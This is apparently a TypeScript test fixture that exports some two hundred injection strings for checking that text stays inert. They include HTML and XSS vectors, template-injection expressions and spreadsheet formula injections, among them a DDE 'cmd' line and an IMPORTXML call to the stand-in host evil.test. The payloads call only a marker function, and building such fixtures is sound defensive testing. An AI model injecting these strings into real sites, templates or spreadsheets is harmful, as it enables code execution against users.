/** What runs `ran()` where a text becomes markup, code, a formula or a template. */
const scripts = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<body onload=ran()>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<a href="javascript:ran()">x</a>',
  '<math><mtext></mtext><script>ran()</script></math>',
  '<template><img src=x onerror=ran()></template>',
  '<style>@import "javascript:ran()"</style>',
  '<object data="javascript:ran()">',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  ']]><script>ran()</script>',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '&lt;script&gt;ran()&lt;/script&gt;',
];
const templates = [
  '${ran()}',
  '{{ran()}}',
  '{{constructor.constructor("ran()")()}}',
  '<%= ran() %>',
  '#{ran()}',
  '{count, plural, one {ran()} other {ran()}}',
  '{name}',
  '`${ran()}`',
  '%7B%7Bran()%7D%7D',
  '[[ran()]]',
];
const formulas = [
  '=ran()',
  '=HYPERLINK("javascript:ran()","x")',
  '=cmd|" /C ran"!A0',
  '+ran()',
  '-ran()',
  '@SUM(ran())',
  '\t=ran()',
  '\r=ran()',
  "'=ran()",
  '=IMPORTXML("http://evil.test/","//ran")',
];

const forms: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => ` ${text} `,
  (text) => `Ġ${text}Ħ`,
];

/** Two hundred texts that would run something where they were taken for more than texts. */
export const payloads: readonly string[] = [...scripts, ...templates, ...formulas].flatMap((text) =>
  forms.map((form) => form(text)),
);

/** All of them in the full run, else a tenth, of every kind and form. */
export const somePayloads =
  process.env['FAULTS'] === 'full'
    ? payloads
    : payloads.filter((_, index) => index % 10 === Math.floor(index / 10) % 10);
